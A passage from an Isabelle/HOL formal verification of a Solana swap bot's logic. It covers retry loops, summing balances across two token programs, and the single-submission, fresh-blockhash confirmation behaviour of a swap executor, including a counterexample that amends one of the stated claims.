       (simp_all add: h'_def sleeps_append requests_append sleeps_before_attempt
          requests_before_attempt)
  then show ?case unfolding am run by blast
next
  case (Suc n)
  then have lt: "a < m" and n: "n = m - Suc a" by simp_all
  define h' where "h' = h @ before_attempt m a @ [Console (RequestingSwap a), Fetch req]"
  have sl: "sleeps h' = sleeps h @ (if a > 0 then [delayMs a] else [])"
    by (simp add: h'_def sleeps_append sleeps_before_attempt)
  have rq: "requests h' = requests h @ [req]"
    by (simp add: h'_def requests_append requests_before_attempt)
  show ?case
  proof (cases "attempt_step ''Failed to get swap transaction'' m a (swapApi w h') = Continue")
    case True
    have run: "getSwapTransaction_loop w req m a h = getSwapTransaction_loop w req m (Suc a) h'"
      using True lt by (subst getSwapTransaction_loop.simps) (simp add: h'_def Let_def)
    obtain k where k: "Suc a \<le> k" "k \<le> m"
      "sleeps (fst (getSwapTransaction_loop w req m (Suc a) h')) = sleeps h' @ map delayMs [max (Suc a) 1..<Suc k]"
      "requests (fst (getSwapTransaction_loop w req m (Suc a) h')) = requests h' @ replicate (Suc k - Suc a) req"
      using Suc.hyps(1) [OF n, of h'] lt by auto
    have ak: "a < k" using k(1) by simp
    have "sleeps (fst (getSwapTransaction_loop w req m a h)) = sleeps h @ map delayMs [max a 1..<Suc k]"
      unfolding run using k(3) by (simp only: sl append_assoc waits_step [OF ak])
    moreover have "requests (fst (getSwapTransaction_loop w req m a h)) = requests h @ replicate (Suc k - a) req"
      unfolding run using k(4) by (simp only: rq append_assoc requests_step [OF ak])
    ultimately show ?thesis using ak k(2) by (intro exI [of _ k]) simp
  next
    case False
    have run: "fst (getSwapTransaction_loop w req m a h) = h'"
      using False lt by (subst getSwapTransaction_loop.simps) (simp add: h'_def Let_def split: step.splits)
    have "sleeps h' = sleeps h @ map delayMs [max a 1..<Suc a] \<and>
          requests h' = requests h @ replicate (Suc a - a) req"
      using sl rq by (cases "a = 0") simp_all
    then show ?thesis unfolding run using lt by (intro exI [of _ a]) simp
  qed
qed



subsection \<open>C3: the backoff sequence\<close>



subsection \<open>C5: the position is the sum over both token programs\<close>

lemma getTokenBalanceByMint_decimal:
  assumes "tokenAccountsRpc w (h @ [Rpc (GetParsedTokenAccountsByOwner owner mint TOKEN_PROGRAM_ID)])
             = Inr (map (\<lambda>n. Some (toString_nat n)) standard)"
      and "tokenAccountsRpc w (h @ [Rpc (GetParsedTokenAccountsByOwner owner mint TOKEN_PROGRAM_ID),
                                    Rpc (GetParsedTokenAccountsByOwner owner mint TOKEN_2022_PROGRAM_ID)])
             = Inr (map (\<lambda>n. Some (toString_nat n)) extended)"
  shows "getTokenBalanceByMint w owner mint h
           = (h @ [Rpc (GetParsedTokenAccountsByOwner owner mint TOKEN_PROGRAM_ID),
                   Rpc (GetParsedTokenAccountsByOwner owner mint TOKEN_2022_PROGRAM_ID)],
              Inr (int (sum_list standard) + int (sum_list extended)))"
  using assms
  by (simp add: getTokenBalanceByMint_def addFromProgram_def Let_def add_amounts_decimal)

text \<open>
  C5. \<open>getTokenBalanceByMint\<close> asks for the owner's accounts of the mint under the
  standard token program and then under Token-2022, and returns the sum of all the
  balances reported (each a decimal string of base units). When neither program reports
  an account the result is 0, not an error. A holding split 600 (standard) + 400
  (Token-2022) gives 1000.
\<close>

theorem currentHolding_sums_both_programs:
  "(tokenAccountsRpc w (h @ [Rpc (GetParsedTokenAccountsByOwner owner mint TOKEN_PROGRAM_ID)])
      = Inr (map (\<lambda>n. Some (toString_nat n)) standard) \<and>
    tokenAccountsRpc w (h @ [Rpc (GetParsedTokenAccountsByOwner owner mint TOKEN_PROGRAM_ID),
                             Rpc (GetParsedTokenAccountsByOwner owner mint TOKEN_2022_PROGRAM_ID)])
      = Inr (map (\<lambda>n. Some (toString_nat n)) extended)
    \<longrightarrow> getTokenBalanceByMint w owner mint h
           = (h @ [Rpc (GetParsedTokenAccountsByOwner owner mint TOKEN_PROGRAM_ID),
                   Rpc (GetParsedTokenAccountsByOwner owner mint TOKEN_2022_PROGRAM_ID)],
              Inr (int (sum_list standard) + int (sum_list extended))))
   \<and> (tokenAccountsRpc w (h @ [Rpc (GetParsedTokenAccountsByOwner owner mint TOKEN_PROGRAM_ID)]) = Inr [] \<and>
      tokenAccountsRpc w (h @ [Rpc (GetParsedTokenAccountsByOwner owner mint TOKEN_PROGRAM_ID),
                               Rpc (GetParsedTokenAccountsByOwner owner mint TOKEN_2022_PROGRAM_ID)]) = Inr []
      \<longrightarrow> snd (getTokenBalanceByMint w owner mint h) = Inr 0)"
proof (intro conjI impI)
  assume "tokenAccountsRpc w (h @ [Rpc (GetParsedTokenAccountsByOwner owner mint TOKEN_PROGRAM_ID)])
      = Inr (map (\<lambda>n. Some (toString_nat n)) standard) \<and>
    tokenAccountsRpc w (h @ [Rpc (GetParsedTokenAccountsByOwner owner mint TOKEN_PROGRAM_ID),
                             Rpc (GetParsedTokenAccountsByOwner owner mint TOKEN_2022_PROGRAM_ID)])
      = Inr (map (\<lambda>n. Some (toString_nat n)) extended)"
  then show "getTokenBalanceByMint w owner mint h
           = (h @ [Rpc (GetParsedTokenAccountsByOwner owner mint TOKEN_PROGRAM_ID),
                   Rpc (GetParsedTokenAccountsByOwner owner mint TOKEN_2022_PROGRAM_ID)],
              Inr (int (sum_list standard) + int (sum_list extended)))"
    using getTokenBalanceByMint_decimal by blast
next
  assume "tokenAccountsRpc w (h @ [Rpc (GetParsedTokenAccountsByOwner owner mint TOKEN_PROGRAM_ID)]) = Inr [] \<and>
      tokenAccountsRpc w (h @ [Rpc (GetParsedTokenAccountsByOwner owner mint TOKEN_PROGRAM_ID),
                               Rpc (GetParsedTokenAccountsByOwner owner mint TOKEN_2022_PROGRAM_ID)]) = Inr []"
  then show "snd (getTokenBalanceByMint w owner mint h) = Inr 0"
    by (simp add: getTokenBalanceByMint_def addFromProgram_def Let_def)
qed

lemma str600: "toString_nat 600 = ''600''" by code_simp
lemma str400: "toString_nat 400 = ''400''" by code_simp

theorem currentHolding_sums_both_programs_witness:
  "tokenAccountsRpc split_wallet
      ([] @ [Rpc (GetParsedTokenAccountsByOwner ''owner'' ''mint'' TOKEN_PROGRAM_ID)])
     = Inr (map (\<lambda>n. Some (toString_nat n)) [600])
   \<and> tokenAccountsRpc split_wallet
      ([] @ [Rpc (GetParsedTokenAccountsByOwner ''owner'' ''mint'' TOKEN_PROGRAM_ID),
             Rpc (GetParsedTokenAccountsByOwner ''owner'' ''mint'' TOKEN_2022_PROGRAM_ID)])
     = Inr (map (\<lambda>n. Some (toString_nat n)) [400])
   \<and> snd (getTokenBalanceByMint split_wallet ''owner'' ''mint'' []) = Inr 1000
   \<and> (tokenAccountsRpc (offline \<lparr> tokenAccountsRpc := (\<lambda>h. Inr []) \<rparr>)
         ([] @ [Rpc (GetParsedTokenAccountsByOwner ''owner'' ''mint'' TOKEN_PROGRAM_ID)]) = Inr []
      \<and> snd (getTokenBalanceByMint (offline \<lparr> tokenAccountsRpc := (\<lambda>h. Inr []) \<rparr>) ''owner'' ''mint'' [])
          = Inr 0)"
proof -
  have a: "tokenAccountsRpc split_wallet
      ([] @ [Rpc (GetParsedTokenAccountsByOwner ''owner'' ''mint'' TOKEN_PROGRAM_ID)])
     = Inr (map (\<lambda>n. Some (toString_nat n)) [600])"
    by (simp add: split_wallet_def str600)
  have b: "tokenAccountsRpc split_wallet
      ([] @ [Rpc (GetParsedTokenAccountsByOwner ''owner'' ''mint'' TOKEN_PROGRAM_ID),
             Rpc (GetParsedTokenAccountsByOwner ''owner'' ''mint'' TOKEN_2022_PROGRAM_ID)])
     = Inr (map (\<lambda>n. Some (toString_nat n)) [400])"
    by (simp add: split_wallet_def str400)
  have c: "snd (getTokenBalanceByMint split_wallet ''owner'' ''mint'' []) = Inr 1000"
    using a b currentHolding_sums_both_programs
            [of split_wallet "[]" "''owner''" "''mint''" "[600]" "[400]"]
    by simp
  have d: "snd (getTokenBalanceByMint (offline \<lparr> tokenAccountsRpc := (\<lambda>h. Inr []) \<rparr>) ''owner'' ''mint'' [])
          = Inr 0"
    using currentHolding_sums_both_programs
            [of "offline \<lparr> tokenAccountsRpc := (\<lambda>h. Inr []) \<rparr>" "[]" "''owner''" "''mint''" "[]" "[]"]
    by simp
  show ?thesis using a b c d by simp
qed

subsection \<open>What the retry loop adds to a history\<close>

lemma retry_only_append: "retry_only (xs @ ys) = (retry_only xs \<and> retry_only ys)"
  by (auto simp: retry_only_def rpcs_append logs_append)

lemma retry_only_before_attempt: "retry_only (before_attempt m a)"
  by (simp add: retry_only_def before_attempt_def)

lemma retry_only_simps [simp]:
  "retry_only []"
  "retry_only (Sleep d # tr) = retry_only tr"
  "retry_only (Fetch r # tr) = retry_only tr"
  "retry_only (Rpc c # tr) = False"
  "retry_only (Console l # tr) = (is_retry_log l \<and> retry_only tr)"
  by (auto simp: retry_only_def)

lemma getQuote_loop_new:
  "\<exists>new. fst (getQuote_loop w req m a h) = h @ new \<and> retry_only new"
proof (induction w req m a h rule: getQuote_loop.induct)
  case (1 w req m a h)
  define h' where "h' = h @ before_attempt m a @ [Console (FetchingQuote a), Fetch req]"
  have ext: "retry_only (before_attempt m a @ [Console (FetchingQuote a), Fetch req])"
    by (simp add: retry_only_append retry_only_before_attempt)
  show ?case
  proof (cases "a \<le> m")
    case False
    then show ?thesis
      by (subst getQuote_loop.simps) simp
  next
    case True
    show ?thesis
    proof (cases "attempt_step ''Failed to get quote'' m a (quoteApi w h')")
      case Continue
      then have run: "getQuote_loop w req m a h = getQuote_loop w req m (a + 1) h'"
        using True by (subst getQuote_loop.simps) (simp add: h'_def Let_def)
      obtain new where new: "fst (getQuote_loop w req m (a + 1) h') = h' @ new" "retry_only new"
        using "1.IH" [OF True h'_def Continue] by blast
      have "fst (getQuote_loop w req m a h)
              = h @ (before_attempt m a @ [Console (FetchingQuote a), Fetch req] @ new)"
        using new(1) unfolding run h'_def by simp
      moreover have "retry_only (before_attempt m a @ [Console (FetchingQuote a), Fetch req] @ new)"
        using ext new(2) by (simp add: retry_only_append)
      ultimately show ?thesis by blast
    next
      case (Return q)
      then have "fst (getQuote_loop w req m a h) = h'"
        using True by (subst getQuote_loop.simps) (simp add: h'_def Let_def)
      then show ?thesis using ext unfolding h'_def by blast
    next
      case (Throw e)
      then have "fst (getQuote_loop w req m a h) = h'"
        using True by (subst getQuote_loop.simps) (simp add: h'_def Let_def)
      then show ?thesis using ext unfolding h'_def by blast
    qed
  qed
qed

lemma getSwapTransaction_loop_new:
  "\<exists>new. fst (getSwapTransaction_loop w req m a h) = h @ new \<and> retry_only new"
proof (induction w req m a h rule: getSwapTransaction_loop.induct)
  case (1 w req m a h)
  define h' where "h' = h @ before_attempt m a @ [Console (RequestingSwap a), Fetch req]"
  have ext: "retry_only (before_attempt m a @ [Console (RequestingSwap a), Fetch req])"
    by (simp add: retry_only_append retry_only_before_attempt)
  show ?case
  proof (cases "a \<le> m")
    case False
    then show ?thesis
      by (subst getSwapTransaction_loop.simps) simp
  next
    case True
    show ?thesis
    proof (cases "attempt_step ''Failed to get swap transaction'' m a (swapApi w h')")
      case Continue
      then have run: "getSwapTransaction_loop w req m a h = getSwapTransaction_loop w req m (a + 1) h'"
        using True by (subst getSwapTransaction_loop.simps) (simp add: h'_def Let_def)
      obtain new where new: "fst (getSwapTransaction_loop w req m (a + 1) h') = h' @ new" "retry_only new"
        using "1.IH" [OF True h'_def Continue] by blast
      have "fst (getSwapTransaction_loop w req m a h)
              = h @ (before_attempt m a @ [Console (RequestingSwap a), Fetch req] @ new)"
        using new(1) unfolding run h'_def by simp
      moreover have "retry_only (before_attempt m a @ [Console (RequestingSwap a), Fetch req] @ new)"
        using ext new(2) by (simp add: retry_only_append)
      ultimately show ?thesis by blast
    next
      case (Return q)
      then have "fst (getSwapTransaction_loop w req m a h) = h'"
        using True by (subst getSwapTransaction_loop.simps) (simp add: h'_def Let_def)
      then show ?thesis using ext unfolding h'_def by blast
    next
      case (Throw e)
      then have "fst (getSwapTransaction_loop w req m a h) = h'"
        using True by (subst getSwapTransaction_loop.simps) (simp add: h'_def Let_def)
      then show ?thesis using ext unfolding h'_def by blast
    qed
  qed
qed

lemma getQuote_new:
  "\<exists>new. fst (getQuote w inMint outMint amount slippage m h) = h @ new \<and> retry_only new"
  unfolding getQuote_def by (rule getQuote_loop_new)

lemma getSwapTransaction_new:
  "\<exists>new. fst (getSwapTransaction w q payer fee m h) = h @ new \<and> retry_only new"
  unfolding getSwapTransaction_def by (rule getSwapTransaction_loop_new)

lemma retry_only_triggers: "retry_only new \<Longrightarrow> triggers new = []"
proof -
  assume "retry_only new"
  then have "list_all is_retry_log (logs new)" by (simp add: retry_only_def)
  then have "\<forall>l \<in> set (logs new). l \<noteq> TriggerBuy \<and> l \<noteq> TriggerSell"
    by (auto simp: list_all_iff)
  then show ?thesis by (simp add: triggers_def filter_empty_conv)
qed

lemma retry_only_submitted: "retry_only new \<Longrightarrow> submitted new = []"
  by (simp add: retry_only_def submitted_def)

lemma retry_only_confirmations: "retry_only new \<Longrightarrow> confirmations new = []"
  by (simp add: retry_only_def confirmations_def)

subsection \<open>The swap executor\<close>

text \<open>The history of a call of \<open>executeSwapOnce\<close>, step by step.\<close>

lemma executeSwapOnce_new:
  "\<exists>new. fst (executeSwapOnce w payer inMint outMint amount slippage fee h) = h @ new
     \<and> list_all is_retry_log (logs new)
     \<and> length (submitted new) \<le> 1 \<and> list_all is_swap (submitted new)
     \<and> length (confirmations new) \<le> 1
     \<and> ((\<exists>v. snd (executeSwapOnce w payer inMint outMint amount slippage fee h) = Inr v)
          \<longrightarrow> length (submitted new) = 1 \<and> length (confirmations new) = 1)"
proof -
  obtain h1 r1 where q: "getQuote w inMint outMint amount slippage 3 h = (h1, r1)"
    by (cases "getQuote w inMint outMint amount slippage 3 h")
  obtain n1 where n1: "h1 = h @ n1" "retry_only n1"
    using getQuote_new [of w inMint outMint amount slippage 3 h] q by auto
  have base1: "list_all is_retry_log (logs n1)" "submitted n1 = []" "confirmations n1 = []"
    using n1(2) by (simp_all add: retry_only_def submitted_def confirmations_def)
  show ?thesis
  proof (cases r1)
    case (Inl e)
    then have "executeSwapOnce w payer inMint outMint amount slippage fee h = (h @ n1, Inl e)"
      using q n1(1) by (simp add: executeSwapOnce_def)
    then show ?thesis using base1 by (intro exI [of _ n1]) simp
  next
    case (Inr quoteResponse)
    obtain h2 r2 where s: "getSwapTransaction w quoteResponse payer (Some fee) 3 h1 = (h2, r2)"
      by (cases "getSwapTransaction w quoteResponse payer (Some fee) 3 h1")
    obtain n2 where n2: "h2 = h1 @ n2" "retry_only n2"
      using getSwapTransaction_new [of w quoteResponse payer "Some fee" 3 h1] s by auto
    define n12 where "n12 = n1 @ n2"
    have h2: "h2 = h @ n12" by (simp add: n12_def n1(1) n2(1))
    have base2: "list_all is_retry_log (logs n12)" "submitted n12 = []" "confirmations n12 = []"
      using n1(2) n2(2)
      by (simp_all add: n12_def retry_only_def submitted_def confirmations_def logs_append rpcs_append)
    show ?thesis
    proof (cases r2)
      case (Inl e)
      then have "executeSwapOnce w payer inMint outMint amount slippage fee h = (h @ n12, Inl e)"
        using q Inr s h2 by (simp add: executeSwapOnce_def)
      then show ?thesis using base2 by (intro exI [of _ n12]) simp
    next
      case swapResponse: (Inr swapResponse)
      let ?send = "Rpc (SendRawTransaction (SwapTransaction (swapTransaction swapResponse)))"
      show ?thesis
      proof (cases "deserializeAndSign w (swapTransaction swapResponse)")
        case (Some e)
        then have "executeSwapOnce w payer inMint outMint amount slippage fee h = (h @ n12, Inl e)"
          using q Inr s swapResponse h2 by (simp add: executeSwapOnce_def)
        then show ?thesis using base2 by (intro exI [of _ n12]) simp
      next
        case None
        define h3 where "h3 = h2 @ [?send]"
        show ?thesis
        proof (cases "sendRpc w h3")
          case (Inl e)
          then have "executeSwapOnce w payer inMint outMint amount slippage fee h
                       = (h @ (n12 @ [?send]), Inl e)"
            using q Inr s swapResponse None h2
            by (simp add: executeSwapOnce_def h3_def Let_def)
          then show ?thesis using base2
            by (intro exI [of _ "n12 @ [?send]"])
               (simp add: logs_append submitted_append confirmations_append)
        next
          case sig: (Inr signature)
          define h4 where "h4 = h3 @ [Rpc GetLatestBlockhash]"
          show ?thesis
          proof (cases "latestBlockhashRpc w h4")
            case (Inl e)
            then have "executeSwapOnce w payer inMint outMint amount slippage fee h
                         = (h @ (n12 @ [?send, Rpc GetLatestBlockhash]), Inl e)"
              using q Inr s swapResponse None sig h2
              by (simp add: executeSwapOnce_def h3_def h4_def Let_def)
            then show ?thesis using base2
              by (intro exI [of _ "n12 @ [?send, Rpc GetLatestBlockhash]"])
                 (simp add: logs_append submitted_append confirmations_append)
          next
            case lb: (Inr lb)
            let ?confirm = "Rpc (ConfirmTransaction signature (lb_blockhash lb) (lb_lastValidBlockHeight lb))"
            define h5 where "h5 = h4 @ [?confirm]"
            have "fst (executeSwapOnce w payer inMint outMint amount slippage fee h)
                         = h @ (n12 @ [?send, Rpc GetLatestBlockhash, ?confirm])"
              using q Inr s swapResponse None sig lb h2
              by (simp add: executeSwapOnce_def h3_def h4_def Let_def split: sum.splits option.splits)
            then show ?thesis using base2
              by (intro exI [of _ "n12 @ [?send, Rpc GetLatestBlockhash, ?confirm]"])
                 (simp add: logs_append submitted_append confirmations_append)
          qed
        qed
      qed
    qed
  qed
qed

subsection \<open>Runs that meet no failure\<close>

text \<open>A request answered at once with a success status makes one attempt and no wait.\<close>

lemma getQuote_first_ok:
  assumes "quoteApi w (h @ [Console (FetchingQuote 0), Fetch (quote_request inMint outMint amount slippage)])
             = Resolves r"
      and "response_ok r" and "bodyJson r = Inr q"
  shows "getQuote w inMint outMint amount slippage m h
           = (h @ [Console (FetchingQuote 0), Fetch (quote_request inMint outMint amount slippage)], Inr q)"
proof -
  have "status r \<noteq> 429" using assms(2) by (auto simp: response_ok_def)
  then show ?thesis
    unfolding getQuote_def using assms
    by (subst getQuote_loop.simps) (simp add: before_attempt_def attempt_step_def Let_def)
qed

lemma getSwapTransaction_first_ok:
  assumes "swapApi w (h @ [Console (RequestingSwap 0),
                           Fetch (PostSwap JUPITER_SWAP_API (swap_request_of q payer fee))])
             = Resolves r"
      and "response_ok r" and "bodyJson r = Inr p"
  shows "getSwapTransaction w q payer fee m h
           = (h @ [Console (RequestingSwap 0),
                   Fetch (PostSwap JUPITER_SWAP_API (swap_request_of q payer fee))], Inr p)"
proof -
  have "status r \<noteq> 429" using assms(2) by (auto simp: response_ok_def)
  then show ?thesis
    unfolding getSwapTransaction_def using assms
    by (subst getSwapTransaction_loop.simps) (simp add: before_attempt_def attempt_step_def Let_def)
qed

lemma ok_response_simps [simp]:
  "response_ok (ok_response v)" "bodyJson (ok_response v) = Inr v"
  by (simp_all add: ok_response_def response_ok_def)

lemma flat_market_simps [simp]:
  "quoteApi flat_market = (\<lambda>h. Resolves (ok_response buy_quote))"
  "swapApi flat_market = (\<lambda>h. Resolves (ok_response plan))"
  "tokenAccountsRpc flat_market = (\<lambda>h. Inr [])"
  "balanceRpc flat_market = (\<lambda>h. Inr 5000000000)"
  "latestBlockhashRpc flat_market
     = (\<lambda>h. Inr \<lparr> lb_blockhash = ''9xQeWvG8'', lb_lastValidBlockHeight = 1150 \<rparr>)"
  "sendRpc flat_market = (\<lambda>h. Inr ''5sig'')"
  "confirmRpc flat_market = (\<lambda>h. Inr None)"
  "deserializeAndSign flat_market = (\<lambda>s. None)"
  "elapsedMs flat_market = (\<lambda>h. 0)"
  by (simp_all add: flat_market_def offline_def)

lemma executeSwapOnce_flat_market:
  "executeSwapOnce flat_market payer WSOL_MINT usdc ''100000000'' (Some 50) 1000000 h
   = (h @ [Console (FetchingQuote 0), Fetch (quote_request WSOL_MINT usdc ''100000000'' (Some 50)),
       Console (RequestingSwap 0),
       Fetch (PostSwap JUPITER_SWAP_API (swap_request_of buy_quote payer (Some 1000000))),
       Rpc (SendRawTransaction (SwapTransaction ''AQAAAA=='')),
       Rpc GetLatestBlockhash,
       Rpc (ConfirmTransaction ''5sig'' ''9xQeWvG8'' 1150)],
      Inr (''5sig'', buy_quote))"
  by (simp add: executeSwapOnce_def getQuote_first_ok getSwapTransaction_first_ok plan_def Let_def)

subsection \<open>C9: one submission, confirmed on a fresh blockhash\<close>

text \<open>What a call does at each point where it can stop.\<close>

lemma executeSwapOnce_quote_fails:
  "getQuote w inMint outMint amount slippage 3 h = (h1, Inl e)
   \<Longrightarrow> executeSwapOnce w payer inMint outMint amount slippage fee h = (h1, Inl e)"
  by (simp add: executeSwapOnce_def)

lemma executeSwapOnce_build_fails:
  "getQuote w inMint outMint amount slippage 3 h = (h1, Inr q)
   \<Longrightarrow> getSwapTransaction w q payer (Some fee) 3 h1 = (h2, Inl e)
   \<Longrightarrow> executeSwapOnce w payer inMint outMint amount slippage fee h = (h2, Inl e)"
  by (simp add: executeSwapOnce_def)

lemma executeSwapOnce_sign_fails:
  "getQuote w inMint outMint amount slippage 3 h = (h1, Inr q)
   \<Longrightarrow> getSwapTransaction w q payer (Some fee) 3 h1 = (h2, Inr p)
   \<Longrightarrow> deserializeAndSign w (swapTransaction p) = Some e
   \<Longrightarrow> executeSwapOnce w payer inMint outMint amount slippage fee h = (h2, Inl e)"
  by (simp add: executeSwapOnce_def)

lemma executeSwapOnce_signed:
  "getQuote w inMint outMint amount slippage 3 h = (h1, Inr q)
   \<Longrightarrow> getSwapTransaction w q payer (Some fee) 3 h1 = (h2, Inr p)
   \<Longrightarrow> deserializeAndSign w (swapTransaction p) = None
   \<Longrightarrow> \<exists>rest. fst (executeSwapOnce w payer inMint outMint amount slippage fee h)
                = h2 @ Rpc (SendRawTransaction (SwapTransaction (swapTransaction p))) # rest
              \<and> submitted rest = [] \<and> requests rest = [] \<and> logs rest = []"
  by (auto simp: executeSwapOnce_def Let_def split: sum.splits option.splits)

lemma executeSwapOnce_send_fails:
  "getQuote w inMint outMint amount slippage 3 h = (h1, Inr q)
   \<Longrightarrow> getSwapTransaction w q payer (Some fee) 3 h1 = (h2, Inr p)
   \<Longrightarrow> deserializeAndSign w (swapTransaction p) = None
   \<Longrightarrow> sendRpc w (h2 @ [Rpc (SendRawTransaction (SwapTransaction (swapTransaction p)))]) = Inl e
   \<Longrightarrow> executeSwapOnce w payer inMint outMint amount slippage fee h
         = (h2 @ [Rpc (SendRawTransaction (SwapTransaction (swapTransaction p)))], Inl e)"
  by (simp add: executeSwapOnce_def Let_def)

lemma executeSwapOnce_confirming:
  "getQuote w inMint outMint amount slippage 3 h = (h1, Inr q)
   \<Longrightarrow> getSwapTransaction w q payer (Some fee) 3 h1 = (h2, Inr p)
   \<Longrightarrow> deserializeAndSign w (swapTransaction p) = None
   \<Longrightarrow> sendRpc w (h2 @ [Rpc (SendRawTransaction (SwapTransaction (swapTransaction p)))]) = Inr sig
   \<Longrightarrow> latestBlockhashRpc w (h2 @ [Rpc (SendRawTransaction (SwapTransaction (swapTransaction p))),
                                  Rpc GetLatestBlockhash]) = Inr lb
   \<Longrightarrow> fst (executeSwapOnce w payer inMint outMint amount slippage fee h)
         = h2 @ [Rpc (SendRawTransaction (SwapTransaction (swapTransaction p))),
                 Rpc GetLatestBlockhash,
                 Rpc (ConfirmTransaction sig (lb_blockhash lb) (lb_lastValidBlockHeight lb))]"
  by (simp add: executeSwapOnce_def Let_def split: sum.splits option.splits)

lemma getQuote_ext:
  "getQuote w inMint outMint amount slippage m h = (h1, r)
   \<Longrightarrow> \<exists>n. h1 = h @ n \<and> retry_only n"
  using getQuote_new [of w inMint outMint amount slippage m h] by simp

lemma getSwapTransaction_ext:
  "getSwapTransaction w q payer fee m h = (h1, r) \<Longrightarrow> \<exists>n. h1 = h @ n \<and> retry_only n"
  using getSwapTransaction_new [of w q payer fee m h] by simp

lemma quote_down_simps [simp]:
  "quoteApi quote_down = (\<lambda>h. Rejects (Error ''fetch failed''))"
  by (simp add: quote_down_def)

lemma build_down_simps [simp]:
  "quoteApi build_down = (\<lambda>h. Resolves (ok_response buy_quote))"
  "swapApi build_down = (\<lambda>h. Rejects (Error ''fetch failed''))"
  by (simp_all add: build_down_def)

lemma bad_payload_simps [simp]:
  "quoteApi bad_payload = (\<lambda>h. Resolves (ok_response buy_quote))"
  "swapApi bad_payload = (\<lambda>h. Resolves (ok_response plan))"
  "deserializeAndSign bad_payload = (\<lambda>s. Some (Error ''Reached end of buffer unexpectedly''))"
  by (simp_all add: bad_payload_def)

lemma getQuote_transport_failure:
  assumes "quoteApi w (h @ [Console (FetchingQuote 0), Fetch (quote_request inMint outMint amount slippage)])
             = Rejects (Error ''fetch failed'')"
  shows "getQuote w inMint outMint amount slippage m h
           = (h @ [Console (FetchingQuote 0), Fetch (quote_request inMint outMint amount slippage)],
              Inl (Error ''fetch failed''))"
  unfolding getQuote_def using assms
  by (subst getQuote_loop.simps) (simp add: before_attempt_def attempt_step_def on_catch_def Let_def)

lemma getSwapTransaction_transport_failure:
  assumes "swapApi w (h @ [Console (RequestingSwap 0),
                           Fetch (PostSwap JUPITER_SWAP_API (swap_request_of q payer fee))])
             = Rejects (Error ''fetch failed'')"
  shows "getSwapTransaction w q payer fee m h
           = (h @ [Console (RequestingSwap 0),
                   Fetch (PostSwap JUPITER_SWAP_API (swap_request_of q payer fee))],
              Inl (Error ''fetch failed''))"
  unfolding getSwapTransaction_def using assms
  by (subst getSwapTransaction_loop.simps)
     (simp add: before_attempt_def attempt_step_def on_catch_def Let_def)

text \<open>
  The claim as stated fails: with a plan valid up to height 1000 the confirmation is
  awaited up to height 1150, the validity of the blockhash fetched after the submission;
  and a call whose quote fails submits nothing.
\<close>

theorem executeSwapOnce_confirms_on_plan_height_counterexample:
  "confirmations (fst (executeSwapOnce flat_market ''WaLLet1111111111111111111111111111111111111''
                         WSOL_MINT usdc ''100000000'' (Some 50) 1000000 []))
     = [(''5sig'', ''9xQeWvG8'', 1150)]
   \<and> snd (getSwapTransaction flat_market buy_quote ''WaLLet1111111111111111111111111111111111111''
            (Some 1000000) 3 [Console (FetchingQuote 0),
                              Fetch (quote_request WSOL_MINT usdc ''100000000'' (Some 50))])
       = Inr plan
   \<and> lastValidBlockHeight plan = 1000
   \<and> submitted (fst (executeSwapOnce offline ''WaLLet1111111111111111111111111111111111111''
                         WSOL_MINT usdc ''100000000'' (Some 50) 1000000 [])) = []"
proof -
  have off: "getQuote offline WSOL_MINT usdc ''100000000'' (Some 50) 3 []
       = ([Console (FetchingQuote 0), Fetch (quote_request WSOL_MINT usdc ''100000000'' (Some 50))],
          Inl (Error ''fetch failed''))"
    unfolding getQuote_def
    by (subst getQuote_loop.simps)
       (simp add: before_attempt_def attempt_step_def on_catch_def offline_def Let_def)
  have none: "submitted (fst (executeSwapOnce offline ''WaLLet1111111111111111111111111111111111111''
                         WSOL_MINT usdc ''100000000'' (Some 50) 1000000 [])) = []"
    by (simp add: executeSwapOnce_def off)
  show ?thesis
    using none by (simp add: executeSwapOnce_flat_market getSwapTransaction_first_ok plan_def)
qed

text \<open>
  C9, as amended. A call of \<open>executeSwapOnce\<close> hands at most one transaction to
  \<open>sendRawTransaction\<close> and awaits at most one confirmation; when it returns a signature it
  has done exactly one of each. When the quote fails, when the swap-build fails, and when
  the payload cannot be deserialized and signed, the call ends with that error, nothing has
  been submitted and no confirmation has been awaited. When the three succeed, the one
  transaction submitted is the signed payload of the plan just built. The confirmation is
  not bounded by the \<open>lastValidBlockHeight\<close> delivered with the plan, which the code never
  reads: when the submission returns a signature and the latest blockhash can be fetched
  after it, the call ends with the submission, \<open>getLatestBlockhash\<close> and one
  \<open>confirmTransaction\<close> on that signature, that blockhash and its \<open>lastValidBlockHeight\<close>.
\<close>

theorem executeSwapOnce_one_submission_fresh_blockhash:
  "\<exists>new. fst (executeSwapOnce w payer inMint outMint amount slippage fee h) = h @ new
      \<and> length (submitted new) \<le> 1 \<and> length (confirmations new) \<le> 1
      \<and> ((\<exists>v. snd (executeSwapOnce w payer inMint outMint amount slippage fee h) = Inr v)
           \<longrightarrow> length (submitted new) = 1 \<and> length (confirmations new) = 1)
      \<and> (getQuote w inMint outMint amount slippage 3 h = (h1, Inl e1)
           \<longrightarrow> executeSwapOnce w payer inMint outMint amount slippage fee h = (h1, Inl e1)
               \<and> submitted new = [] \<and> confirmations new = [])
      \<and> (getQuote w inMint outMint amount slippage 3 h = (h1, Inr q)
         \<and> getSwapTransaction w q payer (Some fee) 3 h1 = (h2, Inl e2)
           \<longrightarrow> executeSwapOnce w payer inMint outMint amount slippage fee h = (h2, Inl e2)
               \<and> submitted new = [] \<and> confirmations new = [])
      \<and> (getQuote w inMint outMint amount slippage 3 h = (h1, Inr q)
         \<and> getSwapTransaction w q payer (Some fee) 3 h1 = (h2, Inr p)
         \<and> deserializeAndSign w (swapTransaction p) = Some e3
           \<longrightarrow> executeSwapOnce w payer inMint outMint amount slippage fee h = (h2, Inl e3)
               \<and> submitted new = [] \<and> confirmations new = [])
      \<and> (getQuote w inMint outMint amount slippage 3 h = (h1, Inr q)
         \<and> getSwapTransaction w q payer (Some fee) 3 h1 = (h2, Inr p)
         \<and> deserializeAndSign w (swapTransaction p) = None
           \<longrightarrow> submitted new = [SwapTransaction (swapTransaction p)])
      \<and> (getQuote w inMint outMint amount slippage 3 h = (h1, Inr q)
         \<and> getSwapTransaction w q payer (Some fee) 3 h1 = (h2, Inr p)
         \<and> deserializeAndSign w (swapTransaction p) = None
         \<and> sendRpc w (h2 @ [Rpc (SendRawTransaction (SwapTransaction (swapTransaction p)))]) = Inr sig
         \<and> latestBlockhashRpc w (h2 @ [Rpc (SendRawTransaction (SwapTransaction (swapTransaction p))),
                                       Rpc GetLatestBlockhash]) = Inr lb
